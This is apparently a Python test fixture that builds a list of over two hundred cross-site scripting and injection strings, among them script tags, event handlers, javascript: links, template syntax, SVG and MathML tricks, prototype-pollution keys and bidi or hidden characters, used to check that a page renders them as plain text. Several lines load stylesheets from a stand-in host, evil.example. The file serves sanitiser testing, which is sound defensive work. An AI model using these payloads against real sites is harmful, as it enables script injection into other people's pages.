"""Texts that would run, restyle or disguise something if a page took them for anything but text.

Those that are code would set ``window.__hacked``.
"""

from itertools import product

_CODE = "window.__hacked=1"
_CALLS = (_CODE, f"(()=>{{{_CODE}}})()", "self['__hacked']=1", "top.__hacked=1")
_EVENTS = ("load", "error", "click", "focus", "mouseover", "toggle", "pointerenter", "animationstart", "begin")
_ELEMENTS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "marquee", "iframe", "math")
_BREAKS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</p>",
    "</blockquote>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
)
_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "vbscript:"),
    *("data:text/html,", "javascript&colon;", "&#106;avascript:", "view-source:javascript:", "blob:"),
)
_TEMPLATES = ("${%s}", "`${%s}`", "{{%s}}", "{%% %s %%}", "#{%s}", "<%%= %s %%>")
_BIDI = "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_HIDDEN = ("\x00", "\x08", "\x1b[2J", "\x7f", "\x85", "\ufeff", "\u200b", "\u2028", "\u2029", "\ufffe")


def hostile_texts() -> list[str]:
    """More than 200 texts, each once, none longer than an evidence may be."""
    scripts = [f"{before}<script>{call}</script>" for before, call in product(_BREAKS, _CALLS[:2])]
    handlers = [f"<{element} on{event}={_CODE}>" for element, event in product(_ELEMENTS, _EVENTS)]
    attributes = [f"{quote} on{event}={quote}{_CODE}" for quote, event in product("\"'`", _EVENTS[:4])]
    templates = [template % call for template, call in product(_TEMPLATES, _CALLS[:2])]
    strings = [f"{end};{_CODE}//" for end in ('"', "'", "`", '\\"', '")', '"})', "\\u0022", "\n", "\u2028", "\u2029")]
    links = [f"{scheme}{_CODE}" for scheme in _SCHEMES]
    foreign = [
        f"<svg><script>{_CODE}</script></svg>",
        f"<svg><a xlink:href='javascript:{_CODE}'><text y=9>x</text></a></svg>",
        f"<svg><animate onbegin={_CODE} attributeName=x></svg>",
        f"<math><mtext><style><img src=x onerror={_CODE}></style></mtext></math>",
        f"<math href='javascript:{_CODE}'>x</math>",
        f"<svg><use href='data:image/svg+xml,<svg onload={_CODE}>'/></svg>",
        f"<noscript><p title='</noscript><img src=x onerror={_CODE}>'>",
        f"<template><script>{_CODE}</script></template>",
        "<iframe srcdoc='<script>top.__hacked=1</script>'></iframe>",
        f"<object data='javascript:{_CODE}'></object>",
        f"<base href='javascript:{_CODE}//'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{_CODE}'>",
        f"<form action='javascript:{_CODE}'><button>x</button></form>",
        "<!--<script>",
        "<plaintext>",
        "<![CDATA[<b>x</b>]]>",
        "&lt;script&gt;__hacked=1&lt;/script&gt;",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>*{display:none}</style>",
        "</style><style>body{background:url(//evil.example/x)}",
        "x;background:url(javascript:__hacked=1)",
        "expression(__hacked=1)",
        "@import '//evil.example/x.css';",
    ]
    objects = [
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        '{"__proto__":{"x":1}}',
        "null",
        "NaN",
        "-1",
        "[]",
    ]
    turned = [f"{mark}safe{mark}" for mark in _BIDI]
    hidden = [f"a{mark}<script>{_CODE}</script>" for mark in _HIDDEN]
    families = [scripts, handlers, attributes, templates, strings, links, foreign, objects, turned, hidden]
    return list(dict.fromkeys(text for family in families for text in family))
